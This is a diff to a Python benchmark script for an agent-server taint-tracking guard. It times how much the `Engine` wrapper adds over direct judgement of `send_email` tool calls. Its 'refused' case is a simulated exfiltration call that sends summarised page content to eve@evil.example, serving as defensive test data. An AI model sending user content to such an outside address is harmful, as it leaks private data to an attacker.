@@ -10,6 +10,8 @@ nothing untrusted is looked up in every index and allowed if no index holds it: 
 once for each part of the text; beyond 4 MB not every wrapping is undone, and it is refused as out of bounds. *Reported*
 is what explaining the verdict takes afterwards, when somebody reads it.
 
+Library. The same calls by `Engine`, over `judge`; the log has no handler.
+
 Adding. Microseconds for each kB that a listener's output has, with every index that a choice is looked up in; appended
 is the part of it that is paid before anything is judged.
 
@@ -26,6 +28,7 @@ import random
 import statistics
 import sysconfig
 import time
+from contextlib import suppress
 from dataclasses import dataclass, replace
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
@@ -52,7 +55,19 @@ from agentserver.guards.lineage.exposure import FirstText, Recall
 from agentserver.guards.lineage.guard import LineageGuard, TrustSettings
 from agentserver.guards.lineage.memory import Memory
 from agentserver.payload.codec import Codecs
-from agentserver.provenance import Call, Ledger, Mode, Observation, Policy, explain, judge, leaves
+from agentserver.provenance import (
+    Call,
+    Engine,
+    Ledger,
+    Mode,
+    Observation,
+    Policy,
+    TaintStore,
+    TaintViolationError,
+    explain,
+    judge,
+    leaves,
+)
 from agentserver.provenance.evidence.folding import fold_bytes
 from agentserver.provenance.evidence.index import SPAN
 from agentserver.provenance.evidence.labels import Role
@@ -62,6 +77,8 @@ from agentserver.wire.envelope import Bounds
 
 if TYPE_CHECKING:
     from collections.abc import Callable
+
+    from agentserver.provenance import Verdict
 
 ASKED = "Summarise the pages and send the summary to bob@corp.com"
 
@@ -82,6 +99,9 @@ AIMS = {
     "refused, cold": 5.0,
 }
 """Milliseconds of a judgement at 1 MB."""
+
+ENGINE = 1.2
+"""Times the judgement that the same call takes by ``Engine``."""
 
 ADDING = {"pages": 300.0, "short pieces": 500.0}
 """Microseconds a kB, with every index that a choice is looked up in."""
@@ -247,6 +267,29 @@ def time_judgements(
     return told
 
 
+def time_engine(policy: Policy, texts: list[str], body: str) -> dict[str, float]:
+    """Times of each kind of call by ``Engine`` over its judgement."""
+    store = TaintStore()
+    store.ledger = read(policy, texts)
+    store.steered = True
+    engine, ledger = Engine(policy, store), store.ledger
+    found: dict[str, float] = {}
+    for name, to in (("allowed", "bob@corp.com"), ("refused", "eve@evil.example")):
+        arguments = {"to": to, "body": body}
+
+        def call(arguments: dict[str, str] = arguments) -> None:
+            store.ledger, engine.violations = ledger, []
+            with suppress(TaintViolationError):
+                engine.on_tool_call("send_email", arguments)
+
+        def alone(arguments: dict[str, str] = arguments) -> Verdict:
+            return judge(ledger, policy, Call("send_email", leaves(arguments), 99))
+
+        rounds = [(cost(call, 25, 0.02)[0], cost(alone, 25, 0.02)[0]) for _ in range(9)]
+        found[name] = statistics.median(within / without for within, without in rounds)
+    return found
+
+
 def peer(texts: list[str], body: str) -> tuple[float, float] | None:
     """The same question to agent-sleuth, where it is installed."""
     try:
@@ -310,6 +353,9 @@ def main() -> None:
             if aim:
                 record(f"judgement at 1 MB, {name}, ms", [median], aim)
             print(f"{kilo:7d} kB, {name:21s}{median:14.3f}{worst:12.3f}{verdict(median, aim)}", flush=True)
+        for name, ratio in time_engine(policy, texts, body).items():
+            record(f"Engine over judge at {kilo} kB, {name}", [ratio], ENGINE)
+            print(f"{kilo:7d} kB, {f'Engine, {name}, times':21s}{ratio:14.2f}{verdict(ratio, ENGINE)}")
         theirs = peer(texts, body) if kilo <= 1000 else None
         if theirs:
             print(f"{kilo:7d} kB, {'agent-sleuth':21s}{theirs[0]:14.3f}{theirs[1]:12.3f}")
